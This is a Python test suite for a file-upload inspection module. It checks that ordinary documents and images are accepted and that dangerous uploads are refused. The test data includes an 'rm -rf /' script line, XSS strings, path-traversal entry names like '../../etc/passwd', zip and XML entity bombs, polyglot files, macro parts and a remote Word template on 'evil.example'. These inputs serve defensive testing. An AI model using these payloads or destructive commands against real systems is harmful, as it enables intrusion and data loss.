"""What comes in, and what stays out: every kind, and what people with bad intentions send."""

import io
import struct
import zipfile
import zlib

import pytest

from foundation.files.inspection import FileRefused, Inspection, inspect_file
from foundation.files.inspection.signatures import EICAR
from foundation.files.tests import contents

MOST = 10 * 1024 * 1024


def inspect(name: str, content: bytes, most_bytes: int = MOST) -> Inspection:
    return inspect_file(io.BytesIO(content), name, most_bytes=most_bytes)


def refusal(name: str, content: bytes, most_bytes: int = MOST) -> str:
    with pytest.raises(FileRefused) as refused:
        inspect(name, content, most_bytes)
    return str(refused.value)


GOOD = {
    "report.pdf": (contents.pdf(3), "application/pdf"),
    "photo.png": (contents.picture("PNG"), "image/png"),
    "photo.JPG": (contents.picture("JPEG"), "image/jpeg"),
    "photo.gif": (contents.picture("GIF"), "image/gif"),
    "photo.webp": (contents.picture("WEBP"), "image/webp"),
    "accounts.xlsx": (contents.xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "letter.docx": (
        contents.docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "letter.odt": (contents.odt(), "application/vnd.oasis.opendocument.text"),
    "notes.txt": ("Größe: 3 – ±".encode(), "text/plain"),
    "old.txt": ("Größe".encode("cp1252"), "text/plain"),
    "wide.txt": ("Größe\r\n".encode("utf-16"), "text/plain"),
    "accounts.csv": (b"account,used\r\nroot,never\r\n", "text/csv"),
    "server.log": (b'\x1b[31m404\x1b[0m GET /?q=<script>alert(1)</script> "curl"\n', "text/plain"),
    "notes.md": (b"# Heading\n\n<b>bold</b>\n", "text/plain"),
    "state.json": (b'{"open": true}', "application/json"),
}


@pytest.mark.parametrize("name", GOOD)
def test_good_files_come_in_as_what_they_are(name: str) -> None:
    content, content_type = GOOD[name]
    inspected = inspect(name, content)
    assert (inspected.kind.content_type, inspected.size, inspected.name) == (content_type, len(content), name)


def test_the_digest_is_that_of_the_content() -> None:
    assert inspect("a.txt", b"abc").sha256 == (
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    )


@pytest.mark.parametrize(
    "name",
    [
        "run.exe",
        "page.html",
        "drawing.svg",
        "macro.docm",
        "old.doc",
        "pack.zip",
        "report.pdf.exe",
        "x.php",
        "noname",
    ],
)
def test_other_kinds_stay_out_and_the_message_says_which_come_in(name: str) -> None:
    assert "PDF, DOCX, XLSX" in refusal(name, b"anything")


@pytest.mark.parametrize(
    "extension", ["pdf", "png", "jpg", "gif", "webp", "docx", "xlsx", "odt", "txt", "csv", "md"]
)
@pytest.mark.parametrize(
    "content",
    [contents.HTML, b"  \n" + contents.HTML, contents.SVG, b'<?xml version="1.0"?>' + contents.SVG, b"MZ\x90\x00\x03", b"\x7fELF\x02", b"#!/bin/sh\nrm -rf /\n"],
    ids=["html", "html after blanks", "svg", "svg as xml", "windows program", "linux program", "script"],
)  # fmt: skip
def test_pages_drawings_and_programs_stay_out_whatever_they_are_called(
    extension: str, content: bytes
) -> None:
    refusal(f"report.{extension}", content)


@pytest.mark.parametrize(
    "name", [name for name in GOOD if not name.endswith((".txt", ".csv", ".log", ".md", ".json"))]
)
@pytest.mark.parametrize(
    "other", [name for name in GOOD if name.endswith((".pdf", ".png", ".xlsx", ".odt", ".gif"))]
)
def test_no_kind_passes_for_another(name: str, other: str) -> None:
    extension = name.rpartition(".")[2]
    if other.endswith(extension):
        return
    refusal(f"file.{extension}", GOOD[other][0])


def test_eicar_stays_out_in_every_disguise() -> None:
    for name, content in {
        "eicar.txt": EICAR,
        "far.txt": b"x" * (1024 * 1024 - 20) + EICAR,  # across the pieces that are read at once
        "eicar.pdf": contents.pdf().replace(b"%%EOF", EICAR + b"\n%%EOF"),
        "packed.docx": contents.docx(**{"word/media/note.txt": EICAR}),
        "packed.odt": contents.odt(**{"Pictures/note.txt": EICAR}),
    }.items():
        with pytest.raises(FileRefused, match="virus") as refused:
            inspect(name, content)
        assert refused.value.is_malware, name


def test_files_that_are_two_things_at_once_stay_out() -> None:
    zipped = contents.archive({"run.bat": b"calc"})
    for name, content in {
        "pdf-and-zip.pdf": contents.pdf() + zipped,
        "pdf-and-html.pdf": contents.pdf() + contents.HTML,
        "html-and-pdf.pdf": contents.HTML + contents.pdf(),
        "png-and-zip.png": contents.picture("PNG") + zipped,
        "jpeg-and-zip.jpg": contents.picture("JPEG") + zipped,
        "gif-and-zip.gif": contents.picture("GIF") + zipped,
        "png-and-html.png": contents.picture("PNG") + contents.HTML,
        "jpeg-and-html.jpg": contents.picture("JPEG") + contents.HTML,
        "webp-and-more.webp": contents.picture("WEBP") + b"more",
        "gif-and-script.gif": contents.picture("GIF") + b"*/=1;alert(1)//",
        "zip-in-text.txt": b"text\n" + zipped.replace(b"\x00", b"\x20"),
        "docx-and-more.docx": contents.docx() + contents.HTML,
        "pdf-and-docx.docx": contents.pdf() + contents.docx(),
        "text-and-pdf.txt": b"hello " + contents.pdf(),
    }.items():
        assert refusal(name, content), name


def test_a_script_in_the_comment_of_a_picture_stays_out() -> None:
    plain = contents.picture("PNG")
    text = b"Comment\x00<script>alert(1)</script>"
    chunk = struct.pack(">I", len(text)) + b"tEXt" + text + struct.pack(">I", zlib.crc32(b"tEXt" + text))
    assert "script" in refusal("photo.png", plain[:33] + chunk + plain[33:])


def test_pictures_that_would_fill_the_memory_stay_out() -> None:
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + header + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    end = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    idat = struct.pack(">I", 0) + b"IDAT" + struct.pack(">I", zlib.crc32(b"IDAT"))
    assert "pixels" in refusal("bomb.png", b"\x89PNG\r\n\x1a\n" + chunk + idat + end)


def test_archives_that_unpack_without_end_stay_out() -> None:
    many = contents.archive({**contents.docx_parts(), **{f"word/media/{n}": b"" for n in range(10_000)}})
    assert "10002 parts" in refusal("many.docx", many)
    bomb = contents.docx(**{"word/media/zeros": b"\x00" * 60_000_000})
    assert "zip bomb" in refusal("bomb.docx", bomb)
    locked = bytearray(contents.docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = locked.find(mark)
        locked[place + offset] |= 1
    assert "password" in refusal("locked.docx", bytes(locked))


def test_an_archive_that_lies_about_its_size_stays_out() -> None:
    content = bytearray(contents.docx(**{"word/media/zeros": b"\x00" * 60_000_000}))
    for info in zipfile.ZipFile(io.BytesIO(content)).infolist():
        if info.filename == "word/media/zeros":
            place = content.find(
                b"PK\x01\x02", content.find(b"word/media/zeros", info.header_offset + 60) - 60
            )
            content[place + 24 : place + 28] = struct.pack("<I", 10)
    assert refusal("lies.docx", bytes(content))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "word/../../x", "C:\\x", "..\\x"])
def test_archives_whose_parts_lead_elsewhere_stay_out(name: str) -> None:
    assert "lead out of it" in refusal("escape.docx", contents.docx(**{name: b"x"}))


def test_macros_and_remote_templates_stay_out() -> None:
    enabled = contents.WORD.replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
    )
    relation = '<Relationships><Relationship Type="http://x/relationships/{}" TargetMode="External" Target="https://evil.example/t.dotm"/></Relationships>'
    for content in (
        contents.archive(contents.docx_parts(main_type=enabled)),
        contents.docx(**{"word/vbaProject.bin": b"x"}),
        contents.docx(**{"word/activeX/activeX1.bin": b"x"}),
        contents.docx(**{"word/embeddings/oleObject1.bin": b"x"}),
        contents.docx(**{"word/embeddings/setup.exe": b"x"}),
        contents.docx(**{"word/_rels/settings.xml.rels": relation.format("attachedTemplate")}),
        contents.odt(**{"Basic/Standard/Module1.xml": b"x"}),
    ):
        name = "file.odt" if b"opendocument" in content else "file.docx"
        assert refusal(name, content)
    linked = inspect(
        "link.docx", contents.docx(**{"word/_rels/document.xml.rels": relation.format("hyperlink")})
    )
    assert linked.name == "link.docx"


def test_xml_that_expands_without_end_stays_out() -> None:
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><Types>&b;</Types>'
    assert "damaged" in refusal("laugh.docx", contents.archive({"[Content_Types].xml": laughs}))


def test_a_document_of_another_kind_stays_out() -> None:
    assert "no XLSX" in refusal("letter.xlsx", contents.docx())
    assert "no ODS" in refusal("letter.ods", contents.odt())


def test_empty_and_large_files_stay_out() -> None:
    assert "empty" in refusal("a.txt", b"")
    assert "larger than 1.0" in refusal("a.txt", b"x" * 1025, most_bytes=1024)


def test_damaged_files_stay_out() -> None:
    for name, (content, _type) in GOOD.items():
        if name.endswith((".pdf", ".xlsx", ".docx", ".odt", ".png", ".gif", ".webp")):
            assert refusal(name, content[: len(content) // 2]), name
    assert refusal("binary.txt", b"text\x00\x01\x02")
    assert refusal("broken.txt", b"\xff\xfe\x00\xd8\x00\xd8")  # UTF-16 with half a character
